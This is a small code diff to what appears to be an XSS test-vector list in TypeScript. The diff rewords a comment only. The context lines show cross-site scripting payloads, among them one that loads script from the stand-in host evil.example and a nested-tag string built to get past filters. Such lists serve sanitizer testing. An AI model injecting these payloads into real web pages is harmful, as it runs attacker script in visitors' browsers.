@@ -4,7 +4,7 @@
  * What would run calls `xss()`.
  */
 export const scriptVectors: readonly string[] = [
-  // Scripts, as plainly as may be and with what filters stumble over.
+  // Scripts, in their plainest form and with what filters handle wrongly.
   '<script>xss()</script>',
   '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
   '<scr<script>ipt>xss()</scr</script>ipt>',
